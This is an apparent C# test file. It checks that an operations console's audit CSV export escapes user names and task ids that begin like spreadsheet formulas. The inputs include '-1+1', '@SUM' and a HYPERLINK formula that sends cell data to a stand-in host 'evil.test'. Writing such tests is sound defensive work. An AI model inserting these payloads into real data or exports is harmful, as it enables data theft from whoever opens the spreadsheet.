using System.Globalization;
using System.Net;
using System.Net.Http.Json;
using CsvHelper;
using OpsConsole.Tests.Features.Yard;
using OpsConsole.Tests.TestSupport;

namespace OpsConsole.Tests.Features.Audit;

/// <summary>GET /api/audit/export with hostile names in it: every text cell that starts like a formula comes out inert.</summary>
public sealed class AuditExportTests
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    private static async Task<List<Dictionary<string, string>>> ExportAsync(HttpClient client, string query)
    {
        var response = await client.GetAsync("/api/audit/export?" + query, Ct);
        response.StatusCode.Should().Be(HttpStatusCode.OK);
        using var csv = new CsvReader(new StringReader(await response.Content.ReadAsStringAsync(Ct)), CultureInfo.InvariantCulture);
        return csv.GetRecords<dynamic>().Cast<IDictionary<string, object>>().Select(r => r.ToDictionary(c => c.Key, c => (string)c.Value)).ToList();
    }

    [Fact]
    public async Task UserNamesThatStartLikeFormulas_AreExportedAsInertCells_AsActorAndAsEntity()
    {
        await using var app = new OpsAppFactory();
        using var admin = await app.ClientAsAsync("admin");
        // Identity allows '-', '+' and '@' in user names; each can start a formula.
        (await admin.PostAsJsonAsync("/api/users", new { user_name = "-1+1", roles = new[] { "admin" }, password = OpsAppFactory.Password }, Ct))
            .StatusCode.Should().Be(HttpStatusCode.Created);
        using var hostile = await app.ClientAsAsync("-1+1");
        (await hostile.PostAsJsonAsync("/api/users", new { user_name = "@SUM", roles = new[] { "viewer" }, password = OpsAppFactory.Password }, Ct))
            .StatusCode.Should().Be(HttpStatusCode.Created);

        var rows = (await ExportAsync(admin, "entity=User")).Where(r => r["Action"] == "user.create").ToList();

        rows.Should().ContainSingle(r => r["Actor"] == "admin" && r["EntityId"] == "'-1+1");
        rows.Should().ContainSingle(r => r["Actor"] == "'-1+1" && r["EntityId"] == "'@SUM");
        rows.Select(r => r["OccurredAt"][..2]).Should().OnlyContain(year => year == "20", "the console's own times are written as they are");
    }

    [Fact]
    public async Task ATaskNameFromTheYard_IsExportedAsAnInertCell()
    {
        const string hostile = "=HYPERLINK(\"evil.test?\"&A1,\"open\")";
        await using var app = await YardPollerTests.StartAsync();
        // No destination: the poller's rule deletes it, and the audit names the task by the yard's id.
        await YardPollerTests.AddTasksAsync(app, new { id = hostile, trailer_id = "TRL-EVIL", origin = "DOOR-01" });
        using var op = await app.ClientAsAsync("operator");
        (await op.PostAsync("/api/yard/poll", null, Ct)).StatusCode.Should().Be(HttpStatusCode.OK);

        var rows = await ExportAsync(op, "module=yard&entity=YardTask");

        rows.Should().Contain(r => r["Action"].StartsWith("yard.auto-delete")).And.OnlyContain(r => r["EntityId"] == "'" + hostile);
    }
}
